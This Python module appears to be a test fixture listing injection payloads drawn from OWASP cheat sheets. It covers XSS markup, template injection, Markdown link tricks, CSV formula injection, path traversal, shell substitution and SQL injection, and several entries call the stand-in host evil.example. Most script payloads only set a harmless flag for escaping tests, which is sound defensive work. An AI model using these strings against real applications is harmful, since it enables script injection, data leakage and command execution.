"""Payloads that try to mislead readers or to run something. Each sets `hit` if it runs.

Sources: OWASP, "XSS Filter Evasion Cheat Sheet", "CSV Injection", "Server-Side Template Injection"; RFC 5545, 3.3.11.
"""

from __future__ import annotations

ARABIC = "العربية نص"
MARKUP = (
    "<script>top.hit=1</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "</script><script>top.hit=1</script>",
    "</title><script>top.hit=1</script>", "--><script>top.hit=1</script>", "]]><script>top.hit=1</script>",
    "<<script>top.hit=1//<</script>", "<img src=x onerror=top.hit=1>", "<img src=x onerror=top.hit=1//",
    '"><img src=x onerror=top.hit=1>', "'><img src=x onerror=top.hit=1>", "`><img src=x onerror=top.hit=1>",
    "<img src=https://evil.example/seen.png>", "<svg onload=top.hit=1>", "<svg><script>top.hit=1</script></svg>",
    "<svg><animate onbegin=top.hit=1 attributeName=x dur=1s>", "<svg><a xlink:href='javascript:top.hit=1'>x</a></svg>",
    "<svg><foreignObject><img src=x onerror=top.hit=1></foreignObject></svg>",
    "<math href=javascript:top.hit=1>x</math>",
    "<body onload=top.hit=1>", "<input autofocus onfocus=top.hit=1>", "<details open ontoggle=top.hit=1>x</details>",
    "<video src=x onerror=top.hit=1></video>", "<audio src=x onerror=top.hit=1></audio>",
    "<marquee onstart=top.hit=1>x</marquee>", "<x onclick=top.hit=1 tabindex=1 autofocus onfocus=top.hit=1>x</x>",
    "<iframe src=javascript:top.hit=1></iframe>", "<iframe srcdoc='<script>top.hit=1</script>'></iframe>",
    "<object data=javascript:top.hit=1></object>", "<embed src=javascript:top.hit=1>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example/)'>",
    "<form action=//evil.example/><input name=a><button>Go</button></form>", "<a href=javascript:top.hit=1>x</a>",
    "<a href='java&#10;script:top.hit=1'>x</a>", "<a href='data:text/html,<script>top.hit=1</script>'>x</a>",
    "<textarea>", "<plaintext>", "<noscript><img src=x onerror=top.hit=1></noscript>",
    "<template><script>top.hit=1</script></template>", "<select><option>", "<xmp>", "<!--", "<![CDATA[", "<?php",
    "</div></main></body></html>", "</ul></dl></section>", "</dd></div>", "<h1 id=content>x</h1>", "<table><tr><td>",
    '" onmouseover="top.hit=1', "' onfocus='top.hit=1' autofocus='", "&lt;script&gt;top.hit=1&lt;/script&gt;",
    "&#60;script&#62;top.hit=1&#60;/script&#62;", "\\u003cscript\\u003etop.hit=1\\u003c/script\\u003e",
    "<mark>x</mark>", "<div markdown='1'>", "<div data-fragment='0'></div>", "<span data-fragment='1'></span>",
)
TEMPLATES = (
    "{{ config }}", "{{ ''.__class__.__mro__ }}", "{{ action('A-001') }}", "{% include 'data/area.yml' %}",
    "{% raw %}", "{# note", "{{", "}}", "{%", "${{ secrets.KEY }}", "<%= 7*7 %>", "#{7*7}", "{{ 7*7 }}",
    "{{ range(999999999)|list }}", "{{ self._TemplateReference__context }}",
)
MARKDOWN = (
    "[x](javascript:top.hit=1)", "[x]( javascript&colon;top.hit=1)", "![x](https://evil.example/seen.png)",
    "[x](data:text/html,x)", "[x]: javascript:top.hit=1", "<javascript:top.hit=1>", "**bold** _and_ `code`",
    "# A heading", "- a list", "> a quote", "```", "| a | b |", "{: onclick=top.hit=1 }", "{: style=position:fixed }",
    "*[A]: <script>top.hit=1</script>", "[^1]: <script>top.hit=1</script>", "A\n\n<script>top.hit=1</script>\n\nB",
)
PLAIN = (
    "=HYPERLINK(\"https://evil.example\",\"x\")", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1",
    "A\nBEGIN:VEVENT\nSUMMARY:x\nEND:VEVENT", "A\nATTACH:https://evil.example/x", "x;ENCODING=BASE64:y", "\\n\\,\\;",
    "%0d%0aSet-Cookie: a=b", "site:/actions/", '"site:/actions/', "javascript:top.hit=1", "vbscript:top.hit=1",
    "../../../etc/passwd", "__proto__", "constructor", "toString", "null", "true", "0x1F", "1e999", "%s%n", "$(id)",
    "`id`", "'; DROP TABLE actions; --", "W" * 400, "www." + "x" * 300 + ".example", "A0-" + "9" * 200, ARABIC,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "Z\u0300\u0301\u0302", "\ud7ff\uf8ff\U0001f980",
)
PAYLOADS = MARKUP + TEMPLATES + MARKDOWN + PLAIN
